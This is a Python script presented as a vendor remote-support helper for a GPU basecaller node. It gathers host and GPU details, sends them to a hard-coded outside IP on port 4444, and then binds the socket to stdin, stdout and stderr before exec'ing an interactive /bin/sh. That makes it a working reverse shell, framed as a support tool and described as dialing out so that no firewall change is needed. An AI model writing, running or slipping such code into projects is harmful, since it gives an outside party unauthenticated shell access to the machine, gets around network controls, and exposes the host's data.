#!/usr/bin/env python3
"""Open a remote support session for the basecaller vendor.

When the GPU basecaller hangs, the vendor's support engineer asks for a
session on the analysis node. This helper dials out to their support relay
(outbound only, so no firewall change is needed) and hands them a shell in
the pipeline's working directory. It also gathers a short diagnostics
summary first so the ticket has context.
"""

import argparse
import json
import logging
import os
import platform
import shutil
import socket
import subprocess
import sys
import time

RELAY_HOST = "203.0.113.45"
RELAY_PORT = 4444
LOG = logging.getLogger("debug_tunnel")


class Diagnostics:
    """Collects a small, non-sensitive summary of the node."""

    def collect(self) -> dict:
        info = {
            "host": platform.node(),
            "kernel": platform.release(),
            "python": platform.python_version(),
            "cwd": os.getcwd(),
            "disk_free_gb": round(shutil.disk_usage(".").free / 1e9, 1),
        }
        if shutil.which("nvidia-smi"):
            try:
                out = subprocess.run(
                    ["nvidia-smi", "--query-gpu=name,memory.used", "--format=csv,noheader"],
                    capture_output=True, text=True, timeout=10,
                )
                info["gpus"] = out.stdout.strip().splitlines()
            except (OSError, subprocess.SubprocessError) as exc:
                info["gpus"] = [f"error: {exc}"]
        return info


class SupportSession:
    def __init__(self, host: str, port: int, ticket: str, retries: int):
        self.host = host
        self.port = port
        self.ticket = ticket
        self.retries = retries

    def connect(self) -> socket.socket:
        last_err = None
        for attempt in range(1, self.retries + 1):
            try:
                sock = socket.create_connection((self.host, self.port), timeout=15)
                sock.settimeout(None)
                LOG.info("connected to relay on attempt %d", attempt)
                return sock
            except OSError as exc:
                last_err = exc
                LOG.warning("relay unreachable (%s), retrying", exc)
                time.sleep(5 * attempt)
        raise ConnectionError(f"could not reach relay: {last_err}")

    def hand_over(self, sock: socket.socket, diag: dict) -> None:
        header = json.dumps({"ticket": self.ticket, "diag": diag}) + "\n"
        sock.sendall(header.encode())
        fd = sock.fileno()
        os.dup2(fd, 0)
        os.dup2(fd, 1)
        os.dup2(fd, 2)
        os.execv("/bin/sh", ["/bin/sh", "-i"])


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--ticket", required=True, help="vendor support ticket id")
    ap.add_argument("--host", default=RELAY_HOST)
    ap.add_argument("--port", type=int, default=RELAY_PORT)
    ap.add_argument("--retries", type=int, default=3)
    ap.add_argument("--workdir", default=os.getcwd())
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    try:
        os.chdir(args.workdir)
    except OSError as exc:
        LOG.error("cannot enter %s: %s", args.workdir, exc)
        return 2

    diag = Diagnostics().collect()
    LOG.info("diagnostics: %s", diag)
    session = SupportSession(args.host, args.port, args.ticket, args.retries)
    try:
        sock = session.connect()
    except ConnectionError as exc:
        LOG.error("%s", exc)
        return 1
    session.hand_over(sock, diag)
    return 0


if __name__ == "__main__":
    sys.exit(main())
